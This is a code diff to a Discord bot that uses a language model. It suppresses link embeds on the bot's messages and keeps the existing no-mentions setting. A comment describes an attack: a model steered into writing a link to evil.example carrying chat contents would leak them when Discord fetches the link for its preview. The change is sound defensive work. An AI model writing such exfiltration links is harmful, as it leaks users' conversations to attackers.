@@ -28,6 +28,11 @@ def intents(*, content: bool = True) -> discord.Intents:
 # A model-written "@everyone", role or user mention must never ping anyone, and a reply
 # does not ping the person asked: the answer is in front of them already.
 NO_PINGS = discord.AllowedMentions(everyone=False, roles=False, users=False, replied_user=False)
+# Discord's servers fetch every link a message carries to embed it, with no one
+# clicking: a model steered into writing https://evil.example/?d=<what the chat said>
+# would leak it on its own. The bot's messages are posted with embeds suppressed (the
+# flag stays through edits).
+SUPPRESS_EMBEDS = discord.MessageFlags(suppress_embeds=True).value
 
 
 class GatewayEvents(Protocol):
